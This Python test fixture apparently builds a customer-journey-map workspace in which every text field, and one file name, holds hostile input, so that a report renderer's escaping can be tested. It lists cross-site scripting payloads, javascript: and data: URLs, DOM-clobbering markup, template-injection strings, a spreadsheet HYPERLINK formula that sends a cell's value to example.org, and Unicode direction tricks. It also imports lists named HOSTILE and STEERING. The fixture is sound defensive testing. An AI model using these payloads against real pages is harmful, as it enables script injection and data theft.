"""A workspace whose every text means harm to a page, for a report that shows them as text."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from filled_journey import DATA
from text_fields import Way, filled_with

from cjm.format import JOURNEY, WORKSPACE
from cjm.format.measured import MEASURED
from cjm.testing import HOSTILE, STEERING

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</template></textarea></title></style><img src=x onerror=alert(3)>",
    "<svg onload=alert(4)><a href='javascript:alert(5)'>x</a></svg>",
    '" autofocus onfocus="alert(6)" x="',
    "' onmouseover='alert(7)' x='",
    "]]><!-- --!> --><iframe srcdoc='<script>parent.alert(8)</script>'></iframe>",
    "<style>*{display:none}</style><link rel=stylesheet href=https://example.org/x.css>",
    "<meta http-equiv=refresh content='0;url=https://example.org/'><base href=https://example.org/>",
    "&lt;script&gt;alert(9)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "{{ 7 * 7 }} {% raw %} ${alert(10)} `\\u003cscript\\u003e`",
    "<b id=main name=cjm class=panel>clobbered</b><form id=journey><input name=attributes></form>",
)
"""What breaks out of elements, attributes, scripts, templates and JSON."""
ATTACKS = {
    "markup": " ".join(MARKUP),
    "script-address": "javascript:alert(11)",
    "data-address": "data:text/html,<script>alert(12)</script>",
    "far-address": "//example.org/x.png",
    "formula": '=HYPERLINK("https://example.org/?x="&A1,"click")',
    "one-word": "Word" * 2_500,
    "ten-thousand": "Words, words and " * 588,
    "directions": "\u202eobratno\u2066\u2067 مرحبا بك \u2069 Zo̷͜e̸ co̵mbining \u200b" + "\u0301" * 40,
    "signs": " ".join(HOSTILE[1:6] + HOSTILE[9:]),
    "steering": " ".join(STEERING),
}
"""By the id of the journey that has it in every field."""
BROKEN = "far-address"
"""The journey that names a rule by its attack, too, so that nothing can be computed of it."""


def _without(data: dict[str, Any], key: str) -> dict[str, Any]:
    return {name: value for name, value in data.items() if name != key}


WORKSPACE_DATA: dict[str, Any] = {
    "cjm": 1,
    "workspace": "Name",
    "language": "ru",
    "journeys": ["journeys"],
    "personas": {"shared": _without(DATA["personas"]["anna"], "share")},
    "channels": {"web": {"title": "Shared channel", "kind": "online"}},
    "stages": {"first": DATA["stages"]["trip"]},
    "lanes": {"x-shared": {"title": "Shared row"}},
    "philosophy": {"promise": "Promise", "feel": "Feel", "never": "Never"},
    "targets": {"nps": ">= 50"},
}
OVERLAY_DATA: dict[str, Any] = {
    "cjm-measured": 1,
    "journey": "markup",
    "state": "as-is",
    "scale": [0, 90],
    "period": {"from": "2026-01-01", "to": "2026-03-31"},
    "sources": {"poll": {"rows": 900, "used": 800, "from": "2026-01-01", "to": "2026-03-31"}},
    "scores": {
        "ride": {
            "expectation": {"score": 70, "n": 400, "sd": 9, "measured": "2026-03-31"},
            "experience": {"score": 30, "n": 400, "sd": 9, "source": "poll"},
            "metrics": {"t": {"value": 5, "unit": "unit", "n": 300, "source": "poll"}},
            "topics": {"dirt": {"reviews": 90, "negative": 60, "pain": 0.4}},
            "quotes": [{"quote": "What a customer said", "source": "poll"}],
        }
    },
    "metrics": {"m": {"value": 7, "unit": "unit", "n": 300}},
    "left_out": {"poll": {"score off the scale": {"rows": 9, "values": {ATTACKS["markup"]: 9}}}},
}


def write_hostile_workspace(folder: Path) -> Path:
    """Journeys with an attack in every field each, the first as it is and as it should be."""
    markup = lambda way: ATTACKS["markup"]  # noqa: E731
    _write(folder / "cjm.yaml", filled_with(WORKSPACE, WORKSPACE_DATA, markup))
    for name, text in ATTACKS.items():
        _write(folder / f"journeys/{name}.yaml", hostile_journey(name, text))
    _write(folder / "journeys/markup.measured.yaml", filled_with(MEASURED, OVERLAY_DATA, markup))
    to_be = hostile_journey("markup", ATTACKS["markup"]) | {"state": "to-be"}
    _write(folder / "journeys/<img src=x onerror=alert(13)>&'.yaml", to_be)
    return folder


def hostile_journey(name: str, text: str) -> dict[str, Any]:
    """Every field of the format, every free one with the text."""

    def text_at(way: Way) -> str:
        return text

    filled = filled_with(JOURNEY, DATA, text_at)
    told = {"id": name, "state": "as-is", "language": "ru"}
    waivers = DATA["waivers"]
    if name == BROKEN:
        waivers = [waiver | {"rule": [text]} for waiver in filled["waivers"]]
    return filled | told | {"waivers": waivers}


def _write(file: Path, data: Any) -> None:
    """As JSON, which is YAML but for characters that no file may hold."""
    text = json.dumps(data, ensure_ascii=False, default=str)
    text = re.sub("[\x7f-\x9f\ufffe]", lambda found: f"\\u{ord(found[0]):04x}", text)
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")
